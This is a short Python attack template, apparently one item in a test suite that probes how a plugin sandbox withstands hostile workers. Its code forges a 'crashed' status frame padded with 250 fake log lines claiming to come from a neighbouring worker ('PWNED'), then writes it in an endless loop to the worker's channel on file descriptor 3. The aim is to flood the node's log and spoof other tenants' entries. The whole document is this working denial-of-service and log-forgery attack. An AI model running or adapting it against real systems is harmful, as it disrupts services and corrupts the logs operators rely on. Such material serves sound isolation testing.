# family: frames-of-ours
# kind: dos
# tries: raw bytes on the worker's channel: that the sandbox itself has failed, in many lines, over and over
# success looks like: a log of the node that grows by megabytes, or a line in it that looks like the neighbour's
def job(plugin):
  @LIBC@
  line = '2026-01-01 00:00:00 INFO pye2_node.code: neighbour:one: PWNED\\n'
  body = ('{"did":"crashed","text":"' + line * 250 + '"}').encode()
  data = len(body).to_bytes(4, 'big') + body
  while True:
    rest = data
    while rest:
      rest = rest[os.write(3, rest):]
